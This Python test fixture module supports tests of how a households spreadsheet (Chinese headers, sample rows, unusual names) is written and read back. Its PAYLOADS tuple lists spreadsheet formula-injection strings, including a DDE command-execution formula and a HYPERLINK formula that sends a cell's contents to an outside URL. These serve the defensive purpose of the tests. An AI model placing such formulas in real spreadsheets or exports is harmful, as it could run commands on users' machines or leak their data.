"""A kind of file with a column of every sort, and rows of it, for the tests of what is written."""

from collections.abc import Iterator
from datetime import date
from decimal import Decimal
from pathlib import Path

from shared.files.limits import Limits
from shared.files.reading.checking import frames
from shared.kernel.sheets import Column, Holds, Sheet

# 0x2CEE1 and 0x20BB7 are characters of four bytes that stand in people's names.
NAMES = ("𬻡𠮷", "阿卜杜热合曼·买买提", "岩三·玉", "李ｅ", "O'Neil")

PAYLOADS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?x="&A1,"看")',
    'a","=1+1',
    'a"\r\n=1+1,"b',
    ";=1+1",
    " =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "'=1+1",
    "'引",
    "{=1+1}",
    "http://example.org",
    "mailto:a@example.org",
    "_x003D_1+1",
)


def a_sheet(*columns: Column, version: int = 3) -> Sheet:
    return Sheet(kind="households", title="农户信息表", version=version, columns=columns or COLUMNS, notes=("一户一行。", "=请勿改动表头"))


COLUMNS = (
    Column(field="name", header="姓名", holds=Holds.NAME, required=True, example="李四"),
    Column(field="id_number", header="身份证号码", holds=Holds.ID_NUMBER, required=True, masked=True, example="530902199001010013"),
    Column(field="phone", header="联系电话", holds=Holds.PHONE),
    Column(field="village", header="所在村", holds=Holds.VILLAGE, required=True),
    Column(field="kind", header="户类型", holds=Holds.CHOICE, choices={"脱贫户": "lifted", "监测户": "watched", "监测对象": "watched"}),
    Column(field="income", header="人均纯收入", holds=Holds.YUAN, note="上一年度"),
    Column(field="people", header="人数", holds=Holds.COUNT),
    Column(field="since", header="纳入日期", holds=Holds.DAY),
    Column(field="note", header="备注", holds=Holds.WORDS),
    Column(field="reference", header="系统编号", holds=Holds.REFERENCE),
)


def a_row(
    name: object = "李四",
    id_number: object = "530902199001010013",
    phone: object = "13800000000",
    village: object = "530902102201",
    kind: object = "lifted",
    income: object = Decimal("1234.5"),
    people: object = 4,
    since: object = "2026-01-05",
    note: object = None,
) -> list[object]:
    return [name, id_number, phone, village, kind, income, people, since, note, "0192f0c1-7d3e-7000-8000-0000000000aa"]


def taken(file: Path) -> Iterator[dict[str, object]]:
    """Read a file as an upload is read, and give each row with its faults."""
    for _, rows in frames(file, a_sheet(), Limits(), date(2026, 3, 1)):
        yield from rows.iter_rows(named=True)
